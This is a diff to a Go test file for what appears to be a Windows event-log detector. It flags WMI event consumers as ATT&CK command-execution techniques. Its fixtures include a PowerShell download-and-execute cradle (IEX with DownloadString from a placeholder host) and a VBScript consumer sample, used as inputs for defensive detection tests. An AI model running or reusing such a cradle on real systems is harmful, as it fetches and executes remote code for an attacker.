@@ -43,7 +43,10 @@ func TestCarriersAndShapes(t *testing.T) {
 		{"7045 ordinary driver is quiet", []ev{service("vmci", `\SystemRoot\System32\drivers\vmci.sys`)}, "T1059.003", "", ""},
 		{"wmi consumer runs powershell", []ev{{source: "evtx", provider: "Microsoft-Windows-WMI-Activity", eventID: 5861, data: map[string]any{
 			"PossibleCause": `Binding EventFilter: instance of __EventFilter { Name = "f"; }; Perm. Consumer: instance of CommandLineEventConsumer { CommandLineTemplate = "powershell.exe -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\""; Name = "c"; };`}}},
-			"T1059.001", "high", `WMI event consumer runs powershell.exe -nop -c "IEX (New-Object Net.WebClient).DownloadString('http://x/…`},
+			"T1059.001", "high", `WMI event consumer c runs powershell.exe -nop -c "IEX (New-Object Net.WebClient).DownloadString('http://x/…`},
+		{"wmi consumer runs vbscript", []ev{{source: "evtx", provider: "Microsoft-Windows-WMI-Activity", eventID: 5861, data: map[string]any{
+			"PossibleCause": "Perm. Consumer: \ninstance of ActiveScriptEventConsumer\n{\n\tKillTimeout = 45;\n\tName = \"KillProcess\";\n\tScriptingEngine = \"VBScript\";\n\tScriptText = \"Dim o\\n\\tSet o = CreateObject(\\\"WbemScripting.SWbemLocator\\\")\";\n};\n"}}},
+			"T1059.005", "high", "WMI event consumer KillProcess runs VBScript"},
 		{"wmi 5861 without a command consumer is quiet", []ev{{source: "evtx", provider: "Microsoft-Windows-WMI-Activity", eventID: 5861, data: map[string]any{
 			"PossibleCause": `Binding EventFilter: instance of __EventFilter { Name = "SCM Event Log Filter"; }; Perm. Consumer: instance of NTEventLogEventConsumer { Name = "SCM Event Log Consumer"; };`}}},
 			"T1059", "!low", ""},
